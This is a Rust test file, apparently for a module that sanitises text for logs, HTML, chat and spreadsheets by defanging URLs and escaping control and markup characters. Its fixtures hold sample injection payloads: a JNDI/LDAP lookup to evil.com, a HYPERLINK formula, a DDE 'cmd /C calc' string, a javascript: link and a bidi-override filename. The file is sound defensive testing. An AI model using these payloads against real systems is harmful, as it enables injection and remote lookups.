use proptest::prelude::*;

use super::*;

fn is_part_of_a_host(character: char) -> bool {
    character.is_alphanumeric() || matches!(character, '-' | '.')
}

/// Texts made of pieces that matter, so that the properties meet more than random letters.
fn nasty() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        any::<char>().prop_map(String::from),
        "[ -~]{0,6}",
        "[a-z.:/-]{1,10}",
        prop::sample::select(vec![
            "\r\n",
            "\u{1b}[31m",
            "\0",
            "\u{202e}",
            "\u{2028}",
            "\u{200b}",
            "\u{feff}",
            "\u{85}",
            "\u{a0}",
            "…",
            "</td><script>",
            "&amp;",
            "\"'`",
            "[click](",
            "javascript:",
            "https://",
            "HTTP://",
            "s3://",
            "hxxps://",
            "://",
            "www.",
            ".com",
            "evil.com",
            "evil[.]com",
            "xn--p1ai",
            "[.]",
            ".",
            "${jndi:",
            "${",
            "<!channel>",
            "=HYPERLINK(",
            "+1",
            "-",
            "@",
            "'",
            "data:",
            "kubernetes.io",
            "。",
            "＝",
            "e\u{301}\u{301}",
        ])
        .prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1_000, ..ProptestConfig::default() })]

    #[test]
    fn plain_text_has_nothing_that_any_program_acts_on_e12(text in nasty(), max in 0_usize..60) {
        let shown = plain_within(&text, max);
        prop_assert!(shown.chars().count() <= max, "cap {max}: {shown:?}");
        prop_assert!(!shown.chars().any(is_unseen), "{shown:?}");
        prop_assert!(!shown.chars().any(|c| c.is_whitespace() && c != ' '), "{shown:?}");
        let lower = shown.to_lowercase();
        for live in ["http://", "https://", "](", "${", "<!"] {
            prop_assert!(!lower.contains(live), "{live} in {shown:?}");
        }
        for (at, _) in lower.match_indices("www.e").chain(lower.match_indices("javascript:a")) {
            let before = lower[..at].chars().next_back();
            prop_assert!(before.is_some_and(is_part_of_a_host), "{shown:?}");
        }
        for (at, host) in lower.match_indices("evil.com") {
            let next = lower[at + host.len()..].chars().next();
            prop_assert!(next.is_some_and(is_part_of_a_host), "{shown:?}");
        }
        prop_assert!(!shown.starts_with(['=', '@', '＝']), "{shown:?}");
    }

    #[test]
    fn plain_text_stays_as_it_is_when_cleaned_again(text in nasty(), max in 0_usize..60) {
        let once = plain_within(&text, max);
        prop_assert_eq!(plain_within(&once, max), once);
    }

    #[test]
    fn html_never_holds_a_character_that_starts_markup_or_ends_an_attribute_e12(text in nasty()) {
        let shown = html(&text);
        prop_assert!(!shown.contains(['<', '>', '"', '\'']), "{shown:?}");
        prop_assert!(!shown.chars().any(is_unseen), "{shown:?}");
        for (at, _) in shown.match_indices('&') {
            let entity = &shown[at..];
            prop_assert!(["&amp;", "&lt;", "&gt;", "&quot;", "&#39;"].iter().any(|e| entity.starts_with(e)), "{shown:?}");
        }
    }

    #[test]
    fn an_ascii_line_is_printable_and_within_its_cap_w19(text in nasty(), max in 0_usize..120) {
        let shown = ascii(&text, max);
        prop_assert!(shown.len() <= max);
        prop_assert!(shown.bytes().all(|b| (b' '..=b'~').contains(&b)), "{shown:?}");
    }
}

#[test]
fn each_kind_of_hostile_text_becomes_visible_and_harmless_e12() {
    for (hostile, harmless) in [
        ("ok\r\n{\"level\":\"fake\"}", "ok\\r\\n{\"level\":\"fake\"}"),
        ("\u{1b}[31mred\u{1b}[0m", "\\u{1b}[31mred\\u{1b}[0m"),
        ("nul\0byte and del\u{7f}", "nul\\u{0}byte and del\\u{7f}"),
        ("invoice\u{202e}fdp.exe", "invoice\\u{202e}fdp.exe"),
        ("ze\u{200b}ro wid\u{feff}th", "ze\\u{200b}ro wid\\u{feff}th"),
        ("line\u{2028}separator", "line\\u{2028}separator"),
        ("wide\u{3000}and\u{a0}hard\tspaces  ", "wide and hard spaces"),
        (
            "see https://login.evil.example/x.php?a=b.c",
            "see hxxps://login[.]evil[.]example/x.php?a=b.c",
        ),
        ("HTTP://EVIL.COM", "hxxp://EVIL[.]COM"),
        ("http://10.1.2.3:8080/", "hxxp://10[.]1[.]2[.]3:8080/"),
        ("vscode://file/etc/passwd", "vscode[:]//file/etc/passwd"),
        ("[click](javascript:alert(1))", "[click] (javascript[:]alert(1))"),
        (
            "go to evil.com/login or www.evil.shop now",
            "go to evil[.]com/login or www[.]evil[.]shop now",
        ),
        ("mail admin@evil.org.", "mail admin@evil[.]org[.]"),
        ("evil。com", "evil[.]com"),
        ("节点异常evil.com。请检查", "节点异常evil[.]com[.]请检查"),
        ("<!channel> and <@U123>", "< !channel> and < @U123>"),
        ("${jndi:ldap://evil.com/a}", "$ {jndi:ldap[:]//evil[.]com/a}"),
        (
            "=HYPERLINK(\"http://evil.com\")",
            "'=HYPERLINK(\"hxxp://evil[.]com\")",
        ),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
    ] {
        assert_eq!(plain(hostile), harmless);
    }
}

#[test]
fn names_that_operators_copy_stay_as_they_are() {
    for name in [
        "ip-10-0-1-7.ec2.internal",
        "coder/coder-6d4f9c7b8-x2k9p",
        "arn:aws:autoscaling:us-east-1:123456789012:autoScalingGroup:uuid:autoScalingGroupName/prod-a-workspace",
        "topology.kubernetes.io/zone=us-east-1a",
        "karpenter.sh/do-not-disrupt: true",
        "eks.amazonaws.com/nodegroup",
        "s3://reports/scale-window/prod-a.html",
        "function.node_groups[2].expected_nodes",
        "kubectl get pods -A -o jsonpath={.items[0].metadata.name}",
        "-12.5 %",
        "ec2:DescribeNatGateways for `vpc-1`: permission denied",
        "节点异常。请检查。",
        "größer als 80 %, gemäß Plan",
    ] {
        assert_eq!(plain(name), name);
    }
}

#[test]
fn somebody_elses_page_below_a_kept_name_is_not_kept_e12() {
    assert_eq!(plain("x.karpenter.sh"), "x[.]karpenter[.]sh");
    assert_eq!(plain("notkubernetes.io"), "notkubernetes[.]io");
    assert_eq!(plain("kubernetes.io.evil.com"), "kubernetes[.]io[.]evil[.]com");
}

#[test]
fn a_link_uncovered_by_the_cut_is_dead_too() {
    let shown = plain_within("a visit to evil.company", 20);
    assert!(!shown.contains("evil.com"), "{shown}");
}

#[test]
fn a_megabyte_costs_no_more_than_its_head() {
    let line = plain(&"http://evil.com/".repeat(1 << 16));
    assert_eq!(line.chars().count(), LINE_CHARS);
    assert!(line.ends_with('…'));
}

#[test]
fn a_subject_spells_out_what_it_can_and_marks_the_rest() {
    assert_eq!(
        ascii("5 → 3 nodes – “eu” façade\n", 60),
        "5 -> 3 nodes - \"eu\" fa?ade\\n"
    );
    assert_eq!(ascii("abcdefgh", 6), "abc...");
    assert_eq!(ascii("abcdefgh", 2), "..");
}
